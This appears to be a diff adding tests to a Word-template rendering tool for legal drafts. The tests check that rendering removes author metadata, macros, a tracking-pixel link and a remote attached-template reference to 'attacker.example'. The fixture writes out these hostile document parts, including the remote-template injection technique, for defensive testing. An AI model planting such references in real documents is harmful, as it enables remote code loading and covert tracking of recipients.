@@ -4,6 +4,7 @@ fails every template the draft would fail. Every test here is fast: a bound refu
 
 from __future__ import annotations
 
+import re
 import time
 from pathlib import Path
 
@@ -109,3 +110,111 @@ def test_an_error_in_the_child_comes_back_whole(tmp_path: Path) -> None:
         render_bytes(path, example_context())
     assert caught.value.variable == "court.nmae" and caught.value.tag == "{{ court.nmae }}"
     assert caught.value.template == str(path.resolve()) and "court.name" in str(caught.value)
+
+
+# --- what a user's template does not pass on ----------------------------------------------------------------
+
+
+def _rewrite(path: Path, changes: dict[str, bytes]) -> None:
+    import zipfile
+
+    with zipfile.ZipFile(path) as source:
+        members = {i.filename: source.read(i) for i in source.infolist()}
+    members.update(changes)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
+        for name, data in members.items():
+            target.writestr(name, data)
+
+
+def _personal_template(tmp_path: Path) -> Path:
+    import zipfile
+
+    import docx
+
+    path = tmp_path / "firm.docx"
+    document = docx.Document()
+    document.add_paragraph("法院：{{ court.name }}")
+    document.core_properties.author = "王律师"
+    document.core_properties.last_modified_by = "李助理"
+    document.save(str(path))
+    with zipfile.ZipFile(path) as package:
+        types = package.read("[Content_Types].xml").decode()
+        rels = package.read("word/_rels/document.xml.rels").decode()
+        settings = package.read("word/settings.xml").decode()
+    macro_main = "application/vnd.ms-word.document.macroEnabled.main+xml"
+    types = types.replace(
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", macro_main
+    ).replace(
+        "</Types>",
+        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+    )
+    rels = rels.replace(
+        "</Relationships>",
+        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+        'Target="vbaProject.bin"/>'
+        '<Relationship Id="rIdPic" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
+        'Target="http://tracker.example/pixel.png" TargetMode="External"/>'
+        '<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        'hyperlink" Target="https://court.example/" TargetMode="External"/></Relationships>',
+    )
+    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1)
+    if "xmlns:r=" not in settings[: settings.index(">", settings.index("<w:settings"))]:
+        settings = settings.replace(
+            "<w:settings ",
+            '<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
+            1,
+        )
+    settings_rels = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        'attachedTemplate" Target="file://attacker.example/share/t.dotm" TargetMode="External"/></Relationships>'
+    )
+    _rewrite(
+        path,
+        {
+            "[Content_Types].xml": types.encode(),
+            "word/_rels/document.xml.rels": rels.encode(),
+            "word/settings.xml": settings.encode(),
+            "word/_rels/settings.xml.rels": settings_rels.encode(),
+            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro",
+        },
+    )
+    return path
+
+
+def test_a_draft_on_a_user_template_drops_personal_metadata_macros_and_external_links(tmp_path: Path) -> None:
+    import io
+    import zipfile
+
+    import docx
+
+    path = _personal_template(tmp_path)
+    data = render_bytes(path, example_context())
+    out = zipfile.ZipFile(io.BytesIO(data))
+    names = out.namelist()
+    assert "word/vbaProject.bin" not in names
+    everything = b"".join(out.read(n) for n in names if n.endswith((".xml", ".rels"))).decode()
+    for gone in (
+        "王律师",
+        "李助理",
+        "vbaProject",
+        "macroEnabled",
+        "tracker.example",
+        "attacker.example",
+        "attachedTemplate",
+    ):
+        assert gone not in everything, gone
+    assert "https://court.example/" in everything, "hyperlinks stay"
+    document = docx.Document(io.BytesIO(data))
+    assert document.paragraphs[0].text == f"法院：{example_context()['court']['name']}"
+    assert document.core_properties.author == "" and document.core_properties.last_modified_by == ""
+
+
+def test_built_in_templates_are_used_as_they_are() -> None:
+    import io
+    import zipfile
+
+    path = template_path("evidence")
+    out = zipfile.ZipFile(io.BytesIO(render_bytes(path, example_context())))
+    assert out.read("docProps/core.xml") == zipfile.ZipFile(path).read("docProps/core.xml")
